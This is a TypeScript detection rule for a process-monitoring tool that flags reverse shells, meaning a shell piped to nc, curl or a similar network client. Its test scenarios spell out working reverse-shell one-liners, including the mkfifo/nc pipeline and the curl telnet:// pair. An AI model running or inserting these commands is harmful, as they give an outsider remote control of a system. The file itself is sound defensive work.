import type { DetectionCase } from '../../model/detection-case.js';
import type { Level } from '../../model/finding.js';
import type { Process } from '../../model/process.js';
import { type Contact, contactsOf } from '../contact.js';
import type { Draft } from '../draft.js';
import { overlap, programName, type ShellStart, seconds, shellsCommandedByInput } from '../lineage.js';
import { isFifoMaker, isNetworkTool, isTwoWayClient } from '../programs.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { shellKind } from '../shell.js';
import { apart, command, contactEvidence, destination, imageEvidence, processEvidence, related, span } from '../wording.js';

/** A client that runs beside a shell under one parent. */
interface Partner {
  readonly client: Process;
  readonly contact?: Contact;
  /** The `mkfifo` that ran there moments before. */
  readonly fifo?: Process;
}

/** A client that ran beside the shell, with its first call. */
interface Candidate {
  readonly client: Process;
  readonly contact: Contact | undefined;
}

const TWINS_US = 500_000;

export const reverseShellPipeline = defineRule({
  id: 'reverse-shell-pipeline',
  title: 'Shell in a pipeline with a network client',
  description:
    'Under one parent, at the same time, run a shell that reads its commands from its input and a client that carries both directions (nc, ' +
    'telnet, socat, openssl): what the client receives are the commands. Where a named pipe was made just before, or one client brings the commands and another takes the answers to the same address, any client ' +
    'that connects will do.',
  level: 'critical',
  stage: 'shell',
  attack: ['T1059.004', 'T1095'],
  needs: [],
  options: {
    windowSeconds: { value: 5, description: 'Longest time between the starts of the shell, the client and the maker of the named pipe.' },
  },
  falsePositives: ['A script fetched with `nc` inside a build and piped into `sh`.'],
  *run({ view, option, suspects }) {
    const window = seconds(option('windowSeconds'));
    for (const shell of shellsCommandedByInput(suspects)) {
      const partner = findPartner(view, shell, window);
      if (partner !== undefined) yield draft(shell, partner);
    }
  },
  hits: [
    scenario(
      'a named pipe, cat, a shell and nc',
      `
      container web
      0       node server.js
      1200      sh -c "mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc host 4444 >/tmp/f"
      1200.01     mkfifo /tmp/f
      1200.02     cat /tmp/f
      1200.02     sh -i
      1201          id
      1200.03     nc host 4444
      1200.1        > tcp 203.0.113.9:4444
    `,
    ),
    scenario(
      'a client without a known name on a named pipe',
      `
      container web
      0       node server.js
      1200      sh -c "…"
      1200.01     mkfifo /tmp/f
      1200.02     sh
      1200.03     /tmp/.x host 4444
      1200.1        > tcp 10.9.9.9:4444
    `,
    ),
    scenario(
      'one download brings the commands, another takes the answers',
      `
      container web
      0       node server.js
      1200      sh -c "curl -Ns telnet://host | sh | curl -Ns telnet://host"
      1200.01     curl -Ns telnet://host
      1200.1        > tcp 203.0.113.9:4444
      1200.01     sh
      1200.01     curl -Ns telnet://host
      1200.1        > tcp 203.0.113.9:4444
    `,
    ),
    scenario(
      'no connection is on record, the tools are enough',
      `
      container web
      0       node server.js
      1200      sh -c "nc host 1 | sh | nc host 2"
      1200.02     nc host 1
      1200.02     sh
      1200.03     nc host 2
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'an installer piped into sh',
      `
      container build
      0     bash build.sh
      5       curl -fsSL https://get.example.org/install.sh
      5.1       > tcp 203.0.113.31:443
      5.01    sh
      6         mkdir -p /opt/x
    `,
    ),
    scenario(
      'a port check that ended before the installer ran',
      `
      container build
      0     bash build.sh
      5       nc -z web 80
      5.1       > tcp 10.0.0.7:80
      5.2       exit
      5.3     sh
    `,
    ),
    scenario(
      'a script is decrypted and run',
      `
      container build
      0     bash build.sh
      5       openssl enc -d -aes-256-cbc -in setup.enc
      5       sh
      5.1       uname -s
    `,
    ),
    scenario(
      'a certificate is read',
      `
      container nagios
      0     sh -c "echo | openssl s_client -connect shop:443 | openssl x509"
      0.1     openssl s_client -connect shop:443
      0.2       > tcp 203.0.113.80:443
      0.1     openssl x509 -noout -enddate
    `,
    ),
  ],
});

function findPartner(view: DetectionCase, shell: ShellStart, window: number): Partner | undefined {
  const { parentId } = shell.process;
  if (parentId === undefined) return undefined;
  const near = view.children(parentId).filter((sibling) => sibling.id !== shell.process.id && isNear(sibling, shell, window));
  const fifo = near.find((sibling) => isFifoMaker(programName(sibling)));
  const partners = near
    .filter((sibling) => shellKind(sibling) === undefined && overlap(sibling, shell.process))
    .map((client) => ({ client, contact: contactsOf(view, client)[0] }))
    .filter(({ client, contact }, _, all) => {
      const twins = all.filter((other) => areTwins({ client, contact }, other));
      const name = programName(client);
      return isNetworkTool(name) || (contact !== undefined && (isTwoWayClient(name) || fifo !== undefined || twins.length > 1));
    });
  const best = partners.find(({ contact }) => contact !== undefined) ?? partners[0];
  if (best === undefined) return undefined;
  return { client: best.client, ...(best.contact === undefined ? {} : { contact: best.contact }), ...(fifo === undefined ? {} : { fifo }) };
}

/** Two clients of one pipeline that call the same address. The parts of a pipeline are forked within a moment. */
function areTwins(a: Candidate, b: Candidate): boolean {
  const apartUs = Math.abs((a.client.startedAtUs ?? 0) - (b.client.startedAtUs ?? 0));
  return a.contact !== undefined && a.contact.connection.remote?.ip === b.contact?.connection.remote?.ip && apartUs <= TWINS_US;
}

function isNear(sibling: Process, shell: ShellStart, window: number): boolean {
  return sibling.startedAtUs !== undefined && Math.abs(sibling.startedAtUs - (shell.process.startedAtUs ?? shell.atUs)) <= window;
}

function draft(shell: ShellStart, { client, contact, fifo }: Partner): Draft {
  const where = contact === undefined ? 'a destination that is not on record' : destination(contact.connection);
  const began = client.startedAtUs ?? shell.atUs;
  const pipe = fifo === undefined ? '' : `, with a named pipe made by ${command(fifo)}`;
  const parent = shell.process.parentId;
  return {
    level: levelOf(contact, fifo),
    title: `${command(shell.image)} commanded from ${where} through ${programName(client)}`,
    why: `${command(shell.image)} (pid ${shell.process.pid}) and ${command(client)} (pid ${client.pid}) started under one parent ${apart(Math.abs(began - shell.atUs))} apart${pipe}; the client connected to ${where}.`,
    process: shell.process,
    ...span(began, shell.atUs, contact?.atUs),
    connections: contact === undefined ? [] : [contact.connection],
    related: [related(shell.process, 'shell'), related(client, 'client'), ...(fifo === undefined ? [] : [related(fifo, 'child')])],
    evidence: [
      ...(fifo === undefined ? [] : processEvidence(fifo)),
      ...imageEvidence(shell.process, shell.image),
      ...processEvidence(client),
      ...(contact === undefined ? [] : contactEvidence(contact)),
    ],
    members: [shell.process.id, client.id, ...(parent === undefined ? [] : [parent])],
  };
}

function levelOf(contact: Contact | undefined, fifo: Process | undefined): Level {
  return contact?.isExternal === true || fifo !== undefined ? 'critical' : 'high';
}
